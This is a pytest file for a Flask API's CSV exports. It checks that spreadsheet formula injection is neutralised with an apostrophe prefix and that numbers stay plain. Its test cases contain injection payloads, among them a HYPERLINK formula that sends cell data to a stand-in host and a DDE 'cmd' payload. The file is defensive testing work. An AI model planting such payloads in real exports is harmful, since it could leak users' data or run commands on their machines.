"""Spreadsheets run no text of a CSV file as a formula, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from flask.testing import FlaskClient

from api.http.csv_text import csv_text
from tests.api.answers import Headers, items, table_of
from tests.api.conftest import Publish

FORMULA = '=HYPERLINK("http://example.com?"&A1,"click")'
CSV: Headers = {"Accept": "text/csv"}

CELLS: list[tuple[Any, str]] = [
    (FORMULA, f"'{FORMULA}"),
    ("=1+1", "'=1+1"),
    ("+49 30 1234", "'+49 30 1234"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("-", "'-"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("\n=1+1", "'\n=1+1"),
    ("＝1+1", "'＝1+1"),
    ("＠SUM(1)", "'＠SUM(1)"),
    ("a=b", "a=b"),
    ("'=1", "'=1"),
    ('"=1', '"=1'),
    (" =1", " =1"),
    ("3-4", "3-4"),
    ("", ""),
    (None, ""),
    (-5, "-5"),
    (-0.25, "-0.25"),
    (Decimal("-12.50"), "-12.50"),
    (0, "0"),
    (True, "true"),
    (False, "false"),
    (date(2026, 2, 3), "2026-02-03"),
]


@pytest.mark.parametrize(("value", "cell"), CELLS, ids=lambda value: repr(value)[:20])
def test_only_a_text_that_starts_like_a_formula_is_prefixed_with_an_apostrophe(value: Any, cell: str) -> None:
    text = csv_text([["first", "second"], [value, 1]])
    assert list(csv.reader(io.StringIO(text, newline="")))[1] == [cell, "1"]


@pytest.fixture
def run_id(publish: Publish) -> int:
    """A published run with formulas in its texts and negative numbers."""
    return publish(
        products=[{"product_key": 1, "product_name": FORMULA, "category": "@SUM(1)", "cost": -3, "total_sales": -10}],
        customers=[{"customer_key": 1, "customer_name": "+1", "country": "-1", "customer_number": "=2", "recency": -1}],
        sales=[
            {"order_number": "=SO1", "product_key": 1, "customer_key": 1, "order_date": date(2026, 1, 3)}
            | {"sales_amount": -10, "quantity": -1, "price": 10, "cost": 2, "profit": -8}
        ],
    )


def test_lists_and_items_of_the_api_contain_no_formulas(client: FlaskClient, run_id: int) -> None:
    for address in ("/api/products", "/api/products/1"):
        (product,) = table_of(client.get(address, headers=CSV))
        assert (product["product_name"], product["category"]) == (f"'{FORMULA}", "'@SUM(1)")
        assert (product["cost"], product["total_sales"]) == ("-3", "-10")
    (customer,) = table_of(client.get("/api/customers", headers=CSV))
    assert [customer[name] for name in ("customer_name", "country", "customer_number")] == ["'+1", "'-1", "'=2"]
    assert customer["recency"] == "-1"
    assert items(client, "/api/products")[0]["product_name"] == FORMULA, "JSON is no spreadsheet's"


@pytest.mark.parametrize(
    ("page", "texts", "numbers"),
    [
        (
            "sales",
            {"order_number": "'=SO1", "product_name": f"'{FORMULA}", "customer_name": "'+1", "country": "'-1"},
            {"sales_amount": "-10", "quantity": "-1", "profit": "-8"},
        ),
        ("customers", {"customer_name": "'+1", "country": "'-1", "customer_number": "'=2"}, {"recency": "-1"}),
    ],
)
def test_files_of_the_dashboards_contain_no_formulas(
    client: FlaskClient, run_id: int, page: str, texts: dict[str, str], numbers: dict[str, str]
) -> None:
    answer = client.get(f"/dashboards/rows/{run_id}/{page}.csv?period=all", buffered=True)
    (row,) = csv.DictReader(io.StringIO(answer.text, newline=""))
    assert {name: row[name] for name in texts | numbers} == texts | numbers
